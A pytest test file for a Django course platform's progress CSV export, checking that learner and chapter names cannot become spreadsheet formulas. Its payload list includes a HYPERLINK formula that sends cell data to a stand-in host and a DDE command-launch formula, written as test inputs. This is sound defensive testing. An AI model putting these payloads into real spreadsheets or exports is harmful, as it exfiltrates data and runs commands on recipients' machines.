"""A file for spreadsheets holds texts of learners and authors; none of them is run there, none leaves its cell."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any
from urllib.parse import quote

import pytest
from django.core.management import call_command
from django.test import Client

from tests.acceptance.helpers import ROOT
from tests.factories import COURSE_KEY, EnrollmentFactory, UserFactory, block, publish_course

HOSTILE = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "|calc",
    "%x",
    '=HYPERLINK("https://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
    *(f"{blank}=1+1" for blank in "\t\r\n\v\f \u00a0\u2003\u3000\x1c\x85"),
    '",=1+1,"',
    "a\r\n=1+1,=2+2",
]
#: What spreadsheets take for the beginning of a formula.
FORMULA = ("=", "+", "-", "@", "|", "%", "\t", "\r", "\n")


def exported(how: str, staff: Any) -> list[list[str]]:
    """Return the cells of everybody with all there is."""
    if how == "command":
        out = io.StringIO()
        call_command("export_progress", str(COURSE_KEY), "--fields=names,chapter", stdout=out, stderr=io.StringIO())
        text = out.getvalue()
    else:
        client = Client()
        client.force_login(staff)
        query = {"type": "csv", "requested_fields": "names,chapter"}
        text = client.get(f"{ROOT}export/{COURSE_KEY}/", query).getvalue().decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("how", ["API", "command"])
@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_a_formula(db: None, staff: Any, how: str, text: str) -> None:
    chapter = replace(block("chapter/c1", "html/h1"), display_name=text)
    publish_course([block("course/course", "chapter/c1"), chapter, block("html/h1")])
    EnrollmentFactory(user=UserFactory(username=text, first_name=text, last_name=text))

    head, row = exported(how, staff)

    assert len(head) == len(row) == 9
    assert text.split()[0][:4] in row[1]
    assert [cell for cell in (*head, *row) if cell.startswith(FORMULA)] == []
    assert [cell for cell in (*head, *row) if cell.strip() and cell != cell.strip()] == []


@pytest.mark.parametrize("text", ["course-v1:Örg+课程+Ран", "Or-g/C.o/R_un", f"{COURSE_KEY}+branch@draft"])
def test_the_name_of_a_file_has_letters_and_digits_alone(staff: Any, text: str) -> None:
    client = Client()
    client.force_login(staff)

    name = client.get(f"{ROOT}export/{quote(text)}/", {"type": "csv"}).headers["Content-Disposition"]

    assert name.isascii()
    assert name.partition("progress-")[2].strip('"').replace("-", "").replace(".csv", "").replace("%", "").isalnum()
